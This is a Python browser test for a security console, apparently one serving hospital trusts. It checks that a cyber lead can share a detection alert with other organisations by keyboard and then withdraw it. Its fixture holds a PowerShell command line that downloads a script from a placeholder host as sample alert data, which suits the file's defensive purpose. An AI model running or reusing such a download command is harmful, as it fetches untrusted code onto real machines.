"""An alert is shared in a browser, and withdrawn."""

import pytest
from playwright.sync_api import expect

from console.detect.factories import AlertEventFactory, AlertFactory, RuleFactory
from console.factories import OrganisationFactory
from console.intel.factories import NODE, a_clock, a_collection, share
from watchward.access.roles import ORGANISATION_CYBER_LEAD
from watchward.console.config import current, use
from watchward.console.intel import actions
from watchward.console.intel.models import Indicator, SharedAlert


@pytest.fixture
def alert(address, tmp_path):  # noqa: ARG001 - what is stored is what the server shows
    """An alert at a trust that may add to what the sector shares."""
    before = current()
    use(before.model_copy(update={"home": tmp_path, "keys": tmp_path / "keys", "lake": tmp_path / "lake"}))
    region = OrganisationFactory(code="XR", name="Northern Vale Region", kind="region")
    trust = OrganisationFactory(code="XT", name="Larkmere Hospitals Trust", parent=region)
    other = OrganisationFactory(code="XU", name="Fernmoor Trust", parent=region)
    place = a_collection(region, title="Shared in the North", description="What protects every organisation here")
    share(place, None, write=True)
    actions.change_group(by=NODE, name="Imaging", members=[trust, other], clock=a_clock())
    found = AlertFactory(organisation=trust, rule=RuleFactory(title="A document starts a download"), count=3)
    AlertEventFactory(
        alert=found,
        fields={
            "CommandLine": r"powershell iwr http://files.greyheron.example/q.ps1 -OutFile C:\Users\mbrown\q.ps1",
            "Image": r"C:\Users\mbrown\q.exe",
            "DestinationIp": "10.20.1.8",
            "Hashes": f"SHA256={'5e' * 32}",
        },
        context={"User": r"LARKMERE\mbrown"},
    )
    yield found
    use(before)


def test_an_alert_is_shared_and_withdrawn_by_keyboard(page_for, passes, alert):
    page = page_for(ORGANISATION_CYBER_LEAD, alert.organisation)
    page.goto(f"/alerts/{alert.pk}/")
    page.get_by_role("button", name="Share what protects others").press("Enter")
    expect(page.locator(".nhsuk-inset-text")).to_contain_text("go to 2 organisations through the collection")
    expect(page.locator("del").first).to_be_visible()
    passes(page, "share")

    page.get_by_label("For the members of one group alone").select_option("Imaging")
    page.get_by_role("button", name="Share it").press("Enter")
    expect(page.get_by_role("alert")).to_contain_text("You have not seen yet what would go like this")
    expect(page.locator(".nhsuk-inset-text")).to_contain_text("go to 1 organisation through")
    passes(page, "share-changed")
    page.get_by_role("button", name="Share it").press("Enter")

    expect(page.locator("main")).to_contain_text("Shared 3 indicators and 3 sightings with 1 organisation")
    expect(page.get_by_role("heading", name="What was shared of it")).to_be_visible()
    passes(page, "share-done")
    page.get_by_role("link", name="Withdraw").press("Enter")
    expect(page.get_by_role("heading", name="Withdraw what was shared?")).to_be_visible()
    passes(page, "share-withdraw")
    page.get_by_role("button", name="Withdraw it").press("Enter")
    expect(page.locator("main")).to_contain_text("What was shared is withdrawn")
    assert SharedAlert.objects.get().withdrawn_at is not None
    assert not Indicator.objects.filter(revoked=False).exists()
